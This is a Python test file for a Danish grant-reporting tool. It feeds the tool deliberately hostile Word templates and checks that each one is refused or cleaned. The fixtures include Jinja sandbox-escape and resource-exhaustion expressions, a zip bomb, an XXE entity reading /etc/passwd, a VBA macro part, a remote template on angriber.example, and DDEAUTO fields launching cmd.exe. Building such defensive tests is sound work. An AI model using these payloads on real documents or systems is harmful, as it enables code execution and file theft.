"""User-edited Word templates are hostile input (issue 21, item 7): bounded, clean, and every fault one Danish line.

The templates are real .docx files made from the shipped ones with python-docx (a hostile paragraph put in
front, a macro part, an outside template, DDE fields) or rewritten as zips (a decompression bomb, a DTD). Each
runs through the real command (``report``, ``indstilling``, ``breve``, ``run``); the rendering child is real too.
"""

from __future__ import annotations

import os
import re
import signal
import sys
import time
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, WORKBOOKS
from docx import Document
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from pagt_xl.base import _child
from pagt_xl.base.model import IssueCode
from pagt_xl.outputs import files as files_module
from pagt_xl.report import sandbox

NORD = WORKBOOKS / "nordjylland_ansoegninger_2019-2023.xlsx"
ROUND = WORKBOOKS / "nordjylland_runde_2024.xlsx"
DECIDED = WORKBOOKS / "nordjylland_runde_2024_afgjort.xlsx"
TEMPLATES = ROOT / "pagt_xl" / "templates"
REPORT = TEMPLATES / "statusrapport.docx"
GIB = 1024 * 1024


def _with_paragraph(out: Path, text: str, source: Path = REPORT) -> Path:
    """``source`` with a paragraph ``text`` before its first one (the hostile code a user typed in Word)."""
    doc = Document(str(source))
    doc.paragraphs[0].insert_paragraph_before(text)
    doc.save(str(out))
    return out


def _report(cli, template: Path, out: Path, *extra: str):
    return cli("report", str(NORD), "--template", str(template), "--out", str(out), "--date", "2024-02-15", *extra)


def _refused(proc, template: Path, out: Path, words: tuple[str, ...]) -> str:
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert proc.returncode == 2, proc.stderr
    assert len(lines) == 1 and lines[0].startswith(f"pagt-xl: fejl: {template}"), proc.stderr
    assert all(w in lines[0] for w in words), lines[0]
    assert "uventet" not in proc.stderr and "Traceback" not in proc.stderr
    assert not out.exists() and not list(out.parent.glob(".pagt-*"))
    return lines[0]


@pytest.fixture
def quick_limits(monkeypatch):
    """The rendering child's CPU time down to 2 s (60 s in use), so that a template that loops is stopped fast."""
    monkeypatch.setattr(sandbox, "RENDER_LIMITS", _child.Limits(memory=1_000_000_000, cpu_seconds=2, wall_seconds=30))


needs_fork = pytest.mark.skipif(_child.start_method() != "fork", reason="the limits are patched in a forked child")


@needs_fork
def test_nested_loops_are_stopped_by_the_cpu_limit_naming_the_paragraph(cli, tmp_path, quick_limits):
    code = "{% for i in ('x' * 100000) %}{% for j in ('x' * 100000) %}{% endfor %}{% endfor %}"
    template = _with_paragraph(tmp_path / "loekker.docx", code)
    start = time.monotonic()
    proc = _report(cli, template, tmp_path / "r.docx")
    assert time.monotonic() - start < 30
    _refused(proc, template, tmp_path / "r.docx", ("CPU-tid", "afsnit 1", "for j in"))


def test_a_huge_text_is_refused_before_it_is_built(cli, tmp_path):
    template = _with_paragraph(tmp_path / "gange.docx", "{{ 'x' * 10**8 }}")
    _refused(
        _report(cli, template, tmp_path / "r.docx"), template, tmp_path / "r.docx", ("afsnit 1", "100.000.000 tegn")
    )


def test_a_text_over_the_cap_is_refused_not_cut(cli, tmp_path):
    """11 million characters: the XML parser would keep 10 million and say nothing (exit 0 before)."""
    template = _with_paragraph(tmp_path / "lang.docx", "{{ 'x' * 11000000 }}")
    line = _refused(_report(cli, template, tmp_path / "r.docx"), template, tmp_path / "r.docx", ("afsnit 1",))
    assert "11.000.000 tegn" in line and "skåret af" in line


def test_a_text_built_in_a_loop_over_the_cap_is_refused(cli, tmp_path):
    template = _with_paragraph(
        tmp_path / "loekke_tekst.docx", "{% for i in ('y' * 11000) %}{{ 'y' * 1000 }}{% endfor %}"
    )
    _refused(_report(cli, template, tmp_path / "r.docx"), template, tmp_path / "r.docx", ("tegn",))


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}", ("rekursion", "afsnit 1")),
        ("{% for i in range(10**7) %}{% endfor %}", ("range",)),  # not offered to templates: refused by the check
        ("{{ 10 ** 1000000 }}", ("for stort tal", "afsnit 1")),
        ("{{ ''.__class__.__mro__ }}", ("tilladt", "afsnit 1")),
        ("{% include 'x.docx' %}", ("importere eller indlejre",)),
    ],
    ids=["recursion", "range", "power", "sandbox", "include"],
)
def test_template_faults_are_one_danish_line_never_unexpected(cli, tmp_path, code, words):
    template = _with_paragraph(tmp_path / "fejl.docx", code)
    _refused(_report(cli, template, tmp_path / "r.docx"), template, tmp_path / "r.docx", words)


def test_the_memo_and_letter_templates_are_bounded_too(cli, tmp_path):
    memo = _with_paragraph(tmp_path / "notat.docx", "{{ 'x' * 10**8 }}", TEMPLATES / "indstillingsnotat.docx")
    proc = cli("indstilling", str(ROUND), "--year", "2024", "--template", str(memo), "--out", str(tmp_path / "n.docx"))
    _refused(proc, memo, tmp_path / "n.docx", ("100.000.000 tegn",))
    grant = _with_paragraph(tmp_path / "tilsagn.docx", "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
                            TEMPLATES / "brev_tilsagn.docx")  # fmt: skip
    proc = cli(
        "breve", str(DECIDED), "--year", "2024", "--out", str(tmp_path / "breve"), "--grant-template", str(grant)
    )
    assert proc.returncode == 2 and f"pagt-xl: fejl: {grant}" in proc.stderr and "rekursion" in proc.stderr
    assert "uventet" not in proc.stderr


# -- the package ----------------------------------------------------------------------------------
def _rewrite(source: Path, out: Path, part: str, data: bytes | None = None, stream=None) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
            elif stream is not None:
                zi = zipfile.ZipInfo(part)
                zi.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(zi, "w", force_zip64=True) as fh:
                    stream(src.read(info), fh)
            else:
                dst.writestr(part, data)
    return out


def _bomb(xml: bytes, fh) -> None:
    head, tail = xml.split(b"<w:body>", 1)
    fh.write(head + b"<w:body>")
    block = b" " * (1 << 20)
    for _ in range(1_000):  # 1 GB of whitespace, a megabyte or so packed
        fh.write(block)
    fh.write(tail)


def test_a_decompression_bomb_in_document_xml_is_refused_before_reading(tmp_path):
    bomb = _rewrite(REPORT, tmp_path / "bombe.docx", "word/document.xml", stream=_bomb)
    assert bomb.stat().st_size < 5_000_000
    out = tmp_path / "r.docx"
    argv = [sys.executable, "-m", "pagt_xl", "report", str(NORD), "--template", str(bomb), "--out", str(out)]
    err = tmp_path / "err.txt"
    actions = [(os.POSIX_SPAWN_OPEN, 2, str(err), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600),
               (os.POSIX_SPAWN_OPEN, 1, os.devnull, os.O_WRONLY, 0)]  # fmt: skip
    start = time.monotonic()
    pid = os.posix_spawn(sys.executable, argv, {k: v for k, v in os.environ.items() if k != "PAGT_XL_DEBUG"},
                         file_actions=actions)  # fmt: skip
    _, status, usage = os.wait4(pid, 0)
    seconds = time.monotonic() - start
    text = err.read_text(encoding="utf-8")
    print(f"bombe.docx: {usage.ru_maxrss / 1024:.0f} MB, {seconds:.1f} s")
    assert os.waitstatus_to_exitcode(status) == 2 and "zip-bombe" in text and "word/document.xml" in text, text
    assert usage.ru_maxrss < GIB and not out.exists()


def test_a_template_with_a_dtd_is_refused(cli, tmp_path):
    with zipfile.ZipFile(REPORT) as zf:
        xml = zf.read("word/document.xml")
    dtd = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    template = _rewrite(REPORT, tmp_path / "dtd.docx", "word/document.xml", dtd + xml.split(b"?>", 1)[1])
    _refused(_report(cli, template, tmp_path / "r.docx"), template, tmp_path / "r.docx", ("DTD",))


# -- hazards ---------------------------------------------------------------------------------------
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
DDE_RUNS = (
    '<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>farligt felt</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t> og tekst der bliver</w:t></w:r></w:p>'
)
DDE_SIMPLE = (
    '<w:p {ns}><w:fldSimple w:instr=\'DDE "Excel" "ark1" "R1C1"\'><w:r><w:t>enkelt felt</w:t></w:r></w:fldSimple></w:p>'
)


def _hazardous(out: Path) -> Path:
    doc = Document(str(REPORT))
    package = doc.part.package
    vba = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0" + b"\0" * 508,
               package)  # fmt: skip
    doc.part.relate_to(vba, VBA_REL)
    settings = doc.part._settings_part
    r_id = settings.relate_to("https://angriber.example/skabelon.dotm", ATTACHED, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{r_id}"/>'))
    body = doc.element.body
    body.insert(0, parse_xml(DDE_RUNS.format(ns=nsdecls("w"))))
    body.insert(0, parse_xml(DDE_SIMPLE.format(ns=nsdecls("w"))))
    doc.sections[0].header.paragraphs[0]._p.addnext(parse_xml(DDE_SIMPLE.format(ns=nsdecls("w"))))
    doc.save(str(out))
    return out


def test_macros_an_outside_template_and_dde_fields_are_taken_out_with_a_warning(cli, tmp_path):
    template = _hazardous(tmp_path / "farlig.docx")
    with zipfile.ZipFile(template) as zf:  # the template really has them
        assert "word/vbaProject.bin" in zf.namelist()
        assert "angriber.example" in zf.read("word/_rels/settings.xml.rels").decode()
        assert "DDEAUTO" in zf.read("word/document.xml").decode()
    out = tmp_path / "r.docx"
    proc = _report(cli, template, out)
    assert proc.returncode == 0, proc.stderr
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("pagt-xl: advarsel: ")]
    assert len(warnings) == 5, proc.stderr  # macros, the outside template, three DDE fields (two in the body, a header)
    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
        text = "".join(zf.read(n).decode("utf-8", "replace") for n in names if n.endswith((".xml", ".rels")))
    assert not [n for n in names if "vba" in n.lower()]
    assert "angriber.example" not in text and "attachedTemplate" not in text
    assert (
        "DDEAUTO" not in text and 'instr="DDE' not in text and "farligt felt" not in text and "enkelt felt" not in text
    )
    assert "og tekst der bliver" in text  # only the field goes


def test_a_scheduled_run_writes_the_template_warnings_to_its_issue_file(cli, tmp_path):
    import json
    import shutil

    (tmp_path / "data").mkdir()
    shutil.copy(NORD, tmp_path / "data" / NORD.name)
    template = _hazardous(tmp_path / "farlig.docx")
    config = tmp_path / "koersel.toml"
    config.write_text(f'pact = "nordjylland"\ninputs = ["data/*.xlsx"]\noutputs = "ud"\ntemplate = "{template.name}"\n',
                      encoding="utf-8")  # fmt: skip
    assert cli("run", str(config), "--date", "2024-02-15").returncode == 0
    issues = json.loads((tmp_path / "ud" / "fejl_nordjylland_2024-02-15.json").read_text(encoding="utf-8"))
    codes = [i["code"] for i in issues if i["file"] == str(template)]
    assert codes.count(IssueCode.TEMPLATE_MACROS_REMOVED) == 1
    assert codes.count(IssueCode.TEMPLATE_REMOTE_TEMPLATE_REMOVED) == 1
    assert codes.count(IssueCode.TEMPLATE_DDE_FIELD_REMOVED) >= 2


def test_the_shipped_templates_have_no_hazards_and_render_unchanged(tmp_path):
    for name in ("statusrapport.docx", "indstillingsnotat.docx", "brev_tilsagn.docx", "brev_afslag.docx"):
        assert sandbox.template_hazards(TEMPLATES / name) == []
        sandbox.check_template_package(TEMPLATES / name)


# -- no temporary files left by a killed run -------------------------------------------------------
def test_a_report_stopped_by_sigterm_while_writing_leaves_no_temporary_file(cli, tmp_path, monkeypatch):
    real = files_module._flush_to_disk

    def killed(tmp: str) -> None:
        assert Path(tmp).exists() and Path(tmp).name.startswith(".pagt-")
        os.kill(os.getpid(), signal.SIGTERM)  # the scheduler ends the run while the draft is written
        real(tmp)

    monkeypatch.setattr(files_module, "_flush_to_disk", killed)
    out = tmp_path / "r.docx"
    proc = cli("report", str(NORD), "--out", str(out))
    assert proc.returncode == 128 + signal.SIGTERM and "stoppet" in proc.stderr
    assert not out.exists() and not list(tmp_path.glob(".pagt-*"))
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL  # the handler is put back


def test_temporary_files_of_killed_runs_are_swept_at_the_next_write(cli, tmp_path):
    import subprocess

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()  # a process id that no longer runs
    stale = tmp_path / f".pagt-{files_module._HOST}-{dead.pid}-abc123.docx"
    stale.write_bytes(b"half a draft")
    other_host = tmp_path / ".pagt-0000beef-1-abc.docx"  # another machine's, recent: left alone
    other_host.write_bytes(b"x")
    old = tmp_path / ".pagt-0000beef-2-old.docx"  # another machine's, over a day old: stale
    old.write_bytes(b"x")
    os.utime(old, (time.time() - 2 * files_module.STALE_AFTER, time.time() - 2 * files_module.STALE_AFTER))
    mine = tmp_path / "notes.docx"  # not ours at all
    mine.write_bytes(b"y")
    assert cli("report", str(NORD), "--out", str(tmp_path / "r.docx")).returncode == 0
    assert not stale.exists() and not old.exists()
    assert other_host.exists() and mine.exists()


def test_the_rendered_report_is_the_same_through_the_child(tmp_path):
    """The child changes where the sandbox runs, not what it makes: the draft's text is the shipped one's."""
    from pagt_xl.base.config import load_pact
    from pagt_xl.pipeline import run_breakdowns, run_validation
    from pagt_xl.report import render_report

    breakdowns = run_breakdowns(run_validation([NORD], load_pact("nordjylland")))
    import datetime as dt

    out = render_report(breakdowns, tmp_path / "r.docx", report_date=dt.date(2024, 2, 15))
    text = "\n".join(p.text for p in Document(str(out)).paragraphs)
    assert "23,23 mio. kr." in text and not re.search(r"\{\{|\{%", text)
    with zipfile.ZipFile(out) as zf:
        assert any(n.startswith("word/media/") for n in zf.namelist())  # the charts came through the child
